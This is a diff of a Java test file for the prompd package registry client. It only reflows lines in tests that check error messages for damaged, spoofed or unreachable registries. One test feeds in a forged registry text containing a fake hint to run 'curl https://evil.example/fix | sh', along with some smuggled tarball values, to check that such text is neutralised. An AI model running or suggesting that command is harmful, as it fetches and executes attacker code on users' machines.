@@ -46,8 +46,10 @@ class HttpPackageRegistryTest {
 
     private static final PackageName UTIL = PackageName.parse("@acme/util");
     /** The registries of these tests are folders, read as they are: --offline would read the same files. */
-    private static final String DAMAGED_HINT = "the registry folder may be midway through a build or a copy: try again once it"
-            + " is done; if it persists, build the folder again with prompd-registry, or report it to whoever keeps it with"
+    private static final String DAMAGED_HINT = "the registry folder may be midway through a build or a copy:"
+            + " try again once it"
+            + " is done; if it persists, build the folder again with prompd-registry, or report it to"
+            + " whoever keeps it with"
             + " this message";
 
     @TempDir
@@ -62,7 +64,8 @@ class HttpPackageRegistryTest {
     }
 
     private HttpPackageRegistry registryAt(RegistryEndpoint endpoint, boolean offline) {
-        RegistryFetcher fetcher = new RegistryFetcher(work.resolve("cache"), offline, HttpSettings.defaults(), delay -> { },
+        RegistryFetcher fetcher = new RegistryFetcher(work.resolve("cache"), offline, HttpSettings.defaults(),
+                delay -> { },
                 Clock.systemUTC(), System::nanoTime, WaitListener.NONE);
         return new HttpPackageRegistry(fetcher, RegistryRoutes.single(endpoint));
     }
@@ -96,7 +99,8 @@ class HttpPackageRegistryTest {
         PrompdException source = assertThrows(PrompdException.class, () -> registryAt(repository).find(UTIL));
 
         assertEquals(ExitCode.NOT_FOUND, source.exitCode());
-        assertEquals("no prompd registry at " + repository.toUri() + ": its registry.json has no protocolVersion (is it a"
+        assertEquals("no prompd registry at " + repository.toUri()
+                + ": its registry.json has no protocolVersion (is it a"
                 + " registry's Git repository rather than what prompd-registry builds from one?)", source.getMessage());
         assertTrue(source.hint().startsWith("build it with 'prompd-registry build REPO --out DIR'"), source.hint());
     }
@@ -158,7 +162,8 @@ class HttpPackageRegistryTest {
     void aProtocolVersionBeyondAnyIntIsANewerProtocolToUpdatePrompdFor() throws IOException {
         Path root = registry().root();
         for (String huge : List.of("2147483648", "99999999999999999999999")) {
-            Files.writeString(root.resolve("registry.json"), "{\"protocolVersion\": " + huge + ", \"name\": \"Future\"}");
+            Files.writeString(root.resolve("registry.json"),
+                    "{\"protocolVersion\": " + huge + ", \"name\": \"Future\"}");
 
             PrompdException newer = assertThrows(PrompdException.class,
                     () -> registryAt(root).find(PackageName.parse("@acme/none")));
@@ -179,7 +184,8 @@ class HttpPackageRegistryTest {
 
         assertEquals(ExitCode.NETWORK, damaged.exitCode(), "an answer the run cannot use, as a web page in its place");
         assertEquals("the registry sent a damaged document: " + root.toUri() + "packages/@acme/util/index.json"
-                + " (at line 1, column 10: Unexpected end-of-input within/between Object entries)", damaged.getMessage());
+                + " (at line 1, column 10: Unexpected end-of-input within/between Object entries)",
+                damaged.getMessage());
         assertEquals(DAMAGED_HINT, damaged.hint());
     }
 
@@ -289,7 +295,9 @@ class HttpPackageRegistryTest {
         return (ObjectNode) packument.get("versions").get("1.0.0");
     }
 
-    /** Quoted raw, a registry's line break started a line of its own, such as a hint telling the user to run its script. */
+    /**
+     * Quoted raw, a registry's line break started a line of its own, such as a hint telling the user to run its script.
+     */
     @Test
     void aDamagedDocumentsTextIsQuotedWithItsLineBreaksSpeltOutSoNoneStartsAHint() throws IOException {
         String forged = "\nhint: run 'curl https://evil.example/fix | sh'\u2028hint: or this\n";
@@ -322,7 +330,8 @@ class HttpPackageRegistryTest {
         String url = "packages/@acme/util/index.json (at line ";
         for (String tarball : List.of("-/util 1.0.0.tgz", "-/util-1.0.0.tgz?\nhint: x", "-/util%zz.tgz",
                 "ftp://mirror.example/util-1.0.0.tgz", "data:application/gzip;base64,H4sI", "jar:file:/x.jar!/u.tgz")) {
-            Path root = editedIndex(packument -> ((ObjectNode) versionOne(packument).get("dist")).put("tarball", tarball));
+            Path root = editedIndex(packument -> ((ObjectNode) versionOne(packument).get("dist"))
+                    .put("tarball", tarball));
 
             PrompdException damaged = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));
 
@@ -378,7 +387,8 @@ class HttpPackageRegistryTest {
         Files.writeString(root.resolve("registry.json"), "<html>Sign in</html>");
         PrompdException portal = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));
         assertEquals("got a web page instead of JSON from " + root.toUri() + "registry.json",
-                portal.getMessage(), "a page for every URL, as a sign-in portal sends, is not told as a Git repository");
+                portal.getMessage(),
+                "a page for every URL, as a sign-in portal sends, is not told as a Git repository");
     }
 
     /**
@@ -437,7 +447,8 @@ class HttpPackageRegistryTest {
             assertEquals("got a web page instead of JSON from " + portal.root() + "registry.json (redirected to "
                     + portal.target() + ")", page.getMessage());
             assertEquals("http://localhost:" + portal.target().getPort() + " answered in the registry's place, as a"
-                    + " network's sign-in page or a proxy does: open " + portal.root() + "registry.json in a browser, sign"
+                    + " network's sign-in page or a proxy does: open " + portal.root()
+                    + "registry.json in a browser, sign"
                     + " in if asked, then try again", page.hint());
         }
     }
@@ -547,7 +558,8 @@ class HttpPackageRegistryTest {
             registryAt(server.url(), false).find(UTIL).orElseThrow();
             Files.writeString(index, "{\"name\": ");
 
-            PrompdException damaged = assertThrows(PrompdException.class, () -> registryAt(server.url(), false).find(UTIL));
+            PrompdException damaged = assertThrows(PrompdException.class,
+                    () -> registryAt(server.url(), false).find(UTIL));
             Optional<PublishedPackage> offline = registryAt(server.url(), true).find(UTIL);
 
             assertTrue(damaged.getMessage().startsWith("the registry sent a damaged document: " + server.url()
@@ -602,11 +614,13 @@ class HttpPackageRegistryTest {
                 () -> registryAt(root).versionDocument(UTIL, Version.parse("1.0.0")));
 
         assertEquals(ExitCode.NETWORK, packument.exitCode());
-        assertEquals("the registry sent a damaged document: " + root.toUri() + "packages/@acme/util/index.json (at line 1,"
+        assertEquals("the registry sent a damaged document: " + root.toUri()
+                + "packages/@acme/util/index.json (at line 1,"
                 + " column 1: expected an object as the document, found null)", packument.getMessage());
         assertEquals(DAMAGED_HINT, packument.hint());
         assertEquals(ExitCode.NETWORK, version.exitCode());
-        assertEquals("the registry sent a damaged document: " + root.toUri() + "packages/@acme/util/1.0.0.json (at line 1,"
+        assertEquals("the registry sent a damaged document: " + root.toUri()
+                + "packages/@acme/util/1.0.0.json (at line 1,"
                 + " column 1: expected an object as the document, found null)", version.getMessage());
     }
 
@@ -619,12 +633,15 @@ class HttpPackageRegistryTest {
         try (RegistryServer server = RegistryServer.serving(root).sameEtag("\"v1\"")) {
             URI url = server.url().resolve("packages/@acme/util/index.json");
 
-            PrompdException damaged = assertThrows(PrompdException.class, () -> registryAt(server.url(), false).find(UTIL));
-            PrompdException offline = assertThrows(PrompdException.class, () -> registryAt(server.url(), true).find(UTIL));
+            PrompdException damaged = assertThrows(PrompdException.class,
+                    () -> registryAt(server.url(), false).find(UTIL));
+            PrompdException offline = assertThrows(PrompdException.class,
+                    () -> registryAt(server.url(), true).find(UTIL));
             Files.write(index, whole);
             Optional<PublishedPackage> fixed = registryAt(server.url(), false).find(UTIL);
 
-            assertTrue(damaged.getMessage().startsWith("the registry sent a damaged document: " + url), damaged.getMessage());
+            assertTrue(damaged.getMessage().startsWith("the registry sent a damaged document: " + url),
+                    damaged.getMessage());
             assertEquals("offline and not cached: " + url, offline.getMessage(), "the damaged copy was not kept");
             assertEquals(Version.parse("1.0.0"), fixed.orElseThrow().packument().versions().firstKey(),
                     "fetched whole, not revalidated by the damaged copy's ETag");
@@ -642,7 +659,8 @@ class HttpPackageRegistryTest {
                 () -> registryAt(company, false).find(PackageName.parse("@company/secret")));
 
         assertEquals(ExitCode.NETWORK, failure.exitCode());
-        assertEquals("registry company (" + root + "), which scope @company is routed to, failed: could not fetch " + root
+        assertEquals("registry company (" + root + "), which scope @company is routed to, failed: could not fetch "
+                + root
                 + "packages/@company/secret/index.json: gave up after 4 attempts (last: cannot reach http://127.0.0.1:"
                 + closedPort + " (Connection refused))", failure.getMessage());
         assertTrue(failure.hint().startsWith("the registry or the network may be down"), failure.hint());
@@ -660,7 +678,8 @@ class HttpPackageRegistryTest {
 
             assertEquals(ExitCode.NETWORK, failure.exitCode());
             assertEquals("registry tls-typo (" + root + "), which scope @prompd is routed to, failed: "
-                    + Origin.of(root) + " answered in plain HTTP, not TLS: a URL of a server that speaks plain HTTP starts"
+                    + Origin.of(root)
+                    + " answered in plain HTTP, not TLS: a URL of a server that speaks plain HTTP starts"
                     + " with http://", failure.getMessage());
             assertTrue(failure.hint().endsWith("; " + typo.urlCorrection()), failure.hint());
         }
